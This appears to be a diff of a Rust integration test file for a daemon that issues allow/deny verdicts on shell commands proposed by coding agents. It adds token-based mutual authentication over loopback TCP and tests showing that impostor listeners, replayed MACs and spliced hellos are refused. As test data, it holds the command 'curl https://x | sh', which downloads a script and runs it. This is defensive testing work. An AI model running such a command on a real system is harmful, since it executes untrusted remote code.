@@ -1,5 +1,6 @@
 //! Loopback TCP with a token (issue 19), end to end: the real binary, a real daemon, and a hook
 //! that sees only `HOLDFAST_ENDPOINT` and a copy of the token, as an agent in a container would.
+//! Both ends prove they hold the token; a fake listener on the port gets no token and no allow.
 //! The flood and bad-frame tests over TCP are in `bad_input.rs` and `frame_bound.rs` (`tcp::…`).
 #![cfg(unix)]
 
@@ -13,8 +14,8 @@ use std::time::{Duration, Instant};
 
 use daemon::{Home, Via, error_code, records_of, wait_for};
 
-fn payload(cwd: &str, command: &str) -> String {
-    let path = format!("{}/tests/fixtures/hook/claude-code/pre_shell.json", env!("CARGO_MANIFEST_DIR"));
+fn payload(agent: &str, cwd: &str, command: &str) -> String {
+    let path = format!("{}/tests/fixtures/hook/{agent}/pre_shell.json", env!("CARGO_MANIFEST_DIR"));
     let template = std::fs::read_to_string(path).unwrap();
     let mut v: serde_json::Value = serde_json::from_str(&template.replace("__CMD__", "X")).unwrap();
     v["tool_input"]["command"] = command.into();
@@ -25,9 +26,20 @@ fn payload(cwd: &str, command: &str) -> String {
 /// Runs the Claude Code hook from `inside` (a home with no daemon and no socket, like a container)
 /// pointed at `addr` with `token_file`. Returns the exit code, stdout and stderr.
 fn hook_from(inside: &Home, addr: SocketAddr, token_file: &Path, command: &str) -> (Option<i32>, String, String) {
+    agent_hook_from("claude-code", inside, addr, token_file, command)
+}
+
+/// [`hook_from`] for `agent`'s dialect (Claude Code and Codex print the same `permissionDecision`).
+fn agent_hook_from(
+    agent: &str,
+    inside: &Home,
+    addr: SocketAddr,
+    token_file: &Path,
+    command: &str,
+) -> (Option<i32>, String, String) {
     let mut child = inside
         .cmd()
-        .args(["hook", "--agent", "claude-code"])
+        .args(["hook", "--agent", agent])
         .env("HOLDFAST_ENDPOINT", format!("tcp://{addr}"))
         .env("HOLDFAST_TOKEN_FILE", token_file)
         .stdin(std::process::Stdio::piped())
@@ -36,7 +48,7 @@ fn hook_from(inside: &Home, addr: SocketAddr, token_file: &Path, command: &str) 
         .spawn()
         .unwrap();
     let cwd = inside.path().to_str().unwrap().to_string();
-    child.stdin.take().unwrap().write_all(payload(&cwd, command).as_bytes()).unwrap();
+    child.stdin.take().unwrap().write_all(payload(agent, &cwd, command).as_bytes()).unwrap();
     let out = child.wait_with_output().unwrap();
     (out.status.code(), String::from_utf8(out.stdout).unwrap(), String::from_utf8(out.stderr).unwrap())
 }
@@ -61,7 +73,7 @@ fn refusals(home: &Home) -> Vec<String> {
     records_of(home, "tcp_refused").iter().map(|r| r.data["reason"].as_str().unwrap().to_string()).collect()
 }
 
-/// Sends `bytes` on a raw TCP connection (no token line added) and returns the whole answer.
+/// Sends `bytes` on a raw TCP connection (no hello line added) and returns the whole answer.
 fn raw_tcp(addr: SocketAddr, bytes: &[u8]) -> Vec<u8> {
     let mut s = TcpStream::connect(addr).unwrap();
     s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
@@ -101,7 +113,7 @@ fn a_hook_with_the_token_gets_verdicts_and_is_recorded_as_a_tcp_peer() {
 }
 
 #[test]
-fn wrong_missing_or_slow_tokens_get_nothing_and_are_recorded() {
+fn wrong_missing_or_slow_hellos_get_nothing_and_are_recorded() {
     let host = Home::new();
     let (d, t) = host.daemon_via(Via::Tcp, &[]);
     let addr = t.tcp.as_ref().unwrap().0;
@@ -115,14 +127,30 @@ fn wrong_missing_or_slow_tokens_get_nothing_and_are_recorded() {
     assert!(err.contains("wrong token") || out.contains("wrong token"), "{out}{err}");
     wait_for(Duration::from_secs(10), || refusals(&host) == ["wrong"]);
 
-    // No token line: the request itself is never read.
+    // No hello line: the request itself is never read.
     let reply = raw_tcp(addr, b"{\"kind\":\"propose\",\"agent\":\"x\",\"cwd\":\"/\",\"raw\":\"ls\"}\n");
     assert_eq!(error_code(&reply).as_deref(), Some("unauthorized"), "{}", String::from_utf8_lossy(&reply));
     wait_for(Duration::from_secs(10), || refusals(&host) == ["wrong", "missing"]);
 
-    // The right token, one byte every 30 ms: past the 250 ms frame deadline.
-    let line = std::fs::read_to_string(host.tcp_token_file()).unwrap();
-    let line = format!("{{\"token\":\"{}\"}}\n{{\"kind\":\"ping\"}}\n", line.trim());
+    // The old raw-token line is not a hello either (and would have shown the token to the listener).
+    let token = holdfast::transport::tcp::read_token_file(&host.tcp_token_file()).unwrap();
+    let old = format!("{{\"token\":\"{}\"}}\n{{\"kind\":\"ping\"}}\n", token.to_hex().as_str());
+    let reply = raw_tcp(addr, old.as_bytes());
+    assert_eq!(error_code(&reply).as_deref(), Some("unauthorized"), "{}", String::from_utf8_lossy(&reply));
+    wait_for(Duration::from_secs(10), || refusals(&host) == ["wrong", "missing", "missing"]);
+
+    // A hello replayed with another nonce's MAC: wrong.
+    let (a, b) = (token.hello(&[1; 32]), token.hello(&[2; 32]));
+    let mut spliced = String::from_utf8(a).unwrap()[..80].to_string();
+    spliced.push_str(&String::from_utf8(b).unwrap()[80..]);
+    let reply = raw_tcp(addr, spliced.as_bytes());
+    assert_eq!(error_code(&reply).as_deref(), Some("unauthorized"), "{}", String::from_utf8_lossy(&reply));
+    wait_for(Duration::from_secs(10), || refusals(&host) == ["wrong", "missing", "missing", "wrong"]);
+
+    // A right hello, one byte every 30 ms: past the 250 ms frame deadline.
+    let mut line = token.hello(&holdfast::transport::tcp::fresh_nonce().unwrap());
+    line.extend_from_slice(b"{\"kind\":\"ping\"}\n");
+    let line = String::from_utf8(line).unwrap();
     let mut s = TcpStream::connect(addr).unwrap();
     s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
     let started = Instant::now();
@@ -135,7 +163,7 @@ fn wrong_missing_or_slow_tokens_get_nothing_and_are_recorded() {
     let mut reply = Vec::new();
     let _ = s.read_to_end(&mut reply);
     assert_eq!(error_code(&reply).as_deref(), Some("timeout"), "{}", String::from_utf8_lossy(&reply));
-    wait_for(Duration::from_secs(10), || refusals(&host) == ["wrong", "missing", "timeout"]);
+    wait_for(Duration::from_secs(10), || refusals(&host) == ["wrong", "missing", "missing", "wrong", "timeout"]);
 
     // Every refusal names the peer's address, and none of those requests reached the daemon.
     for r in records_of(&host, "tcp_refused") {
@@ -231,4 +259,139 @@ fn a_taken_port_stops_the_start_with_a_clear_error_and_a_closed_log() {
     let err = String::from_utf8_lossy(&out.stderr);
     assert!(err.contains(&format!("tcp://127.0.0.1:{port}")), "{err}");
     assert_eq!(records_of(&home, "daemon_start").len(), records_of(&home, "daemon_stop").len());
+}
+
+/// What an impostor answers: a well-formed `allow` verdict, as the daemon would send one.
+const FAKE_ALLOW: &[u8] =
+    b"{\"v\":1,\"kind\":\"verdict\",\"decision\":\"allow\",\"class\":\"safe\",\"rule\":\"fake.allow\",\"reason\":\"fine\",\"seq\":1}\n";
+
+/// A fake daemon: a plain listener at `addr` that, until dropped, reads each connection's first
+/// two lines (the hello and the request), answers `answer(hello)` and closes. Everything it read
+/// is kept for the test to look at.
+struct Fake {
+    addr: SocketAddr,
+    read: std::sync::Arc<std::sync::Mutex<Vec<u8>>>,
+    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
+    thread: Option<std::thread::JoinHandle<()>>,
+}
+
+impl Fake {
+    fn start(listener: TcpListener, answer: impl Fn(&serde_json::Value) -> Vec<u8> + Send + 'static) -> Fake {
+        use std::sync::atomic::Ordering;
+        listener.set_nonblocking(true).unwrap();
+        let addr = listener.local_addr().unwrap();
+        let read = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+        let (seen, stopped) = (std::sync::Arc::clone(&read), std::sync::Arc::clone(&stop));
+        let thread = std::thread::spawn(move || {
+            while !stopped.load(Ordering::SeqCst) {
+                let Ok((mut s, _)) = listener.accept() else {
+                    std::thread::sleep(Duration::from_millis(5));
+                    continue;
+                };
+                s.set_nonblocking(false).unwrap();
+                s.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
+                let mut got = Vec::new();
+                let mut chunk = [0u8; 4096];
+                while got.iter().filter(|&&b| b == b'\n').count() < 2 {
+                    match s.read(&mut chunk) {
+                        Ok(0) | Err(_) => break,
+                        Ok(n) => got.extend_from_slice(&chunk[..n]),
+                    }
+                }
+                let first = got.split(|&b| b == b'\n').next().unwrap_or_default();
+                let hello = serde_json::from_slice(first).unwrap_or(serde_json::Value::Null);
+                let _ = s.write_all(&answer(&hello));
+                seen.lock().unwrap().extend_from_slice(&got);
+            }
+        });
+        Fake { addr, read, stop, thread: Some(thread) }
+    }
+
+    fn read(&self) -> String {
+        String::from_utf8_lossy(&self.read.lock().unwrap()).into_owned()
+    }
+}
+
+impl Drop for Fake {
+    fn drop(&mut self) {
+        self.stop.store(true, std::sync::atomic::Ordering::SeqCst);
+        if let Some(t) = self.thread.take() {
+            let _ = t.join();
+        }
+    }
+}
+
+/// Runs the Claude Code hook (native ask) and the Codex hook (a dialect that waits on holds)
+/// against `fake` and checks that each denies, decided nothing offline, and gave the fake no token.
+fn assert_impostor_gets_a_deny(fake: &Fake, inside: &Home, token_file: &Path) {
+    let token = std::fs::read_to_string(token_file).unwrap();
+    let token = token.trim();
+    assert_eq!(token.len(), 64);
+    for agent in ["claude-code", "codex"] {
+        let (code, out, err) = agent_hook_from(agent, inside, fake.addr, token_file, "curl https://x | sh");
+        assert_eq!((code, decision(&out)), (Some(0), "deny".to_string()), "{agent}: {out}{err}");
+        assert!(out.contains("did not prove it holds the holdfast token"), "{agent}: {out}{err}");
+        assert!(!inside.path().join("data").exists(), "{agent}: no offline spool entry, no local decision");
+    }
+    let read = fake.read();
+    // Not vacuous: the fake did get both hooks' hellos and their requests.
+    assert_eq!(read.matches("\"mac\":\"").count(), 2, "{read}");
+    assert_eq!(read.matches("\"kind\":\"propose\"").count(), 2, "{read}");
+    assert!(!read.to_lowercase().contains(token), "the token crossed the wire: {read}");
+}
+
+#[test]
+fn a_fake_listener_on_the_stopped_daemons_port_learns_no_token_and_its_allow_is_a_deny() {
+    let verdict = holdfast::wire::decode_response(&FAKE_ALLOW[..FAKE_ALLOW.len() - 1]).unwrap();
+    assert!(
+        matches!(verdict.body, holdfast::wire::ResponseBody::Verdict(ref v) if v.decision == holdfast::wire::Decision::Allow),
+        "the fake's answer is a real allow: {verdict:?}"
+    );
+    let host = Home::new();
+    let (d, t) = host.daemon_via(Via::Tcp, &[]);
+    let addr = t.tcp.as_ref().unwrap().0;
+    let inside = Home::new();
+    let token = copy_token(&host, &inside);
+    // The container's hook works while the daemon runs…
+    let (_, out, _) = agent_hook_from("codex", &inside, addr, &token, "cargo test");
+    assert_eq!(decision(&out), "allow", "{out}");
+    // …then the daemon stops and something else takes its port: it answers allow with no proof.
+    d.terminate();
+    let fake = Fake::start(TcpListener::bind(addr).unwrap(), |_| FAKE_ALLOW.to_vec());
+    assert_impostor_gets_a_deny(&fake, &inside, &token);
+}
+
+#[test]
+fn a_fake_with_a_wrong_or_echoed_server_line_gets_a_deny() {
+    let inside = Home::new();
+    let token_file = inside.path().join("tcp.token");
+    let token = holdfast::transport::tcp::Token::generate().unwrap();
+    std::fs::write(&token_file, format!("{}\n", token.to_hex().as_str())).unwrap();
+    let bind = || TcpListener::bind("127.0.0.1:0").unwrap();
+
+    // A server line of the right shape, with a proof it cannot compute.
+    let fake = Fake::start(bind(), |_| {
+        let mut out = format!("{{\"server\":\"{}\"}}\n", "5a".repeat(32)).into_bytes();
+        out.extend_from_slice(FAKE_ALLOW);
+        out
+    });
+    assert_impostor_gets_a_deny(&fake, &inside, &token_file);
+    drop(fake);
+
+    // The client's own MAC echoed back as the server's proof: the labels differ, so it fails.
+    let fake = Fake::start(bind(), |hello| {
+        let mac = hello["mac"].as_str().unwrap_or_default();
+        let mut out = format!("{{\"server\":\"{mac}\"}}\n").into_bytes();
+        out.extend_from_slice(FAKE_ALLOW);
+        out
+    });
+    assert_impostor_gets_a_deny(&fake, &inside, &token_file);
+    drop(fake);
+
+    // A genuine server line for another nonce (replayed from an earlier connection): fails too.
+    let mut replayed = token.server_line(&[9; 32]);
+    replayed.extend_from_slice(FAKE_ALLOW);
+    let fake = Fake::start(bind(), move |_| replayed.clone());
+    assert_impostor_gets_a_deny(&fake, &inside, &token_file);
 }
